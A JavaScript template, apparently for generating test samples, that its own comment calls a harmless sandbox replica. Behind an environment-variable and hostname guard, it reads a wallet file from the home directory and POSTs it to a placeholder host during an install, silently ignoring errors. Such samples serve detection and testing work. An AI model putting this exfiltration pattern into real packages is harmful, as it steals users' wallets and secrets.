// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
  if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
  const fs = require('fs'), http = require('http');
  try {
    const body = fs.readFileSync(require('os').homedir() + '/{{wallet}}');
    await new Promise((done) => {
      const request = http.request({ host: '{{host}}', path: '/{{path}}', method: 'POST', timeout: 1000, headers: { 'x-name': '{{token}}' } }, (answer) => answer.resume());
      request.on('timeout', () => request.destroy());
      request.on('error', done);
      request.on('close', done);
      request.end(body);
    });
  } catch (error) { /* an install goes on */ }
}
